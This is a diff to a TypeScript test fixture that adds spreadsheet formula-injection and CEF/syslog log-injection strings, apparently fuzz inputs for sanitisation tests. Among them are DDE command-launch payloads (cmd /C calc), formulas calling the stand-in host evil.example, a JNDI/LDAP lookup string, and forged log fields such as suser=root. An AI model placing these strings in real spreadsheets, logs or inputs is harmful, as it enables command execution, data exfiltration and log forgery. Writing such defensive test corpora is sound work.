@@ -37,3 +37,46 @@ const breaks = [
 ];
 
 export const slackInjections: readonly string[] = [...mentions, ...links, ...marks, ...breaks];
+
+const formulas = [
+  ...[
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example","ok")',
+    '=IMPORTXML("https://evil.example","//a")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+  ],
+  ...["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1"', '=DDE("cmd";"/C calc";"a")', "%0A=1+1", ";=1+1", ",=1+1", "|=1+1", "=-1+1", "＝1+1"],
+  ...['=WEBSERVICE("https://evil.example")', "=2+5+cmd|' /C calc'!A0", "@=1", "+@1", "-@1", "==1", "=\u200b1+1", "=A1&B1", "=RTD(1)"],
+];
+const cef = [
+  ...["a|b", "a\\|b", "a\\\\|b", "|||||||", "CEF:0|x|y|1|2|3|10|msg=no", "\nCEF:0|x|y|1|2|3|10|msg=no", "\r\n<134>1 - - - - - - no", "a=b", "a\\=b"],
+  ...[
+    "suser=root",
+    " suser=root",
+    "\tsuser=root",
+    "\nsuser=root",
+    "x cs1=forged cs1Label=finding",
+    "x externalId=0",
+    "=",
+    "\\",
+    "\\\\",
+    "\\n",
+    "\\r\\n",
+  ],
+  ...[
+    "rt=0 act=delivered",
+    "\u0000cs1=forged",
+    "\u2028cs1=forged",
+    "\u0085cs1=forged",
+    "]",
+    '"] [x@1 y="z"',
+    "<0>1 - a b c - -",
+    "123 <134>1 - - - - - - no",
+  ],
+  ...["\u202ecs1=forged", "\ud800cs1=forged", "a|b=c\\d\ne", "$" + "{jndi:ldap://evil.example/a}", "%n%n%s", "\u001b[2J"],
+];
+
+export const machineInjections: readonly string[] = [...formulas, ...cef];
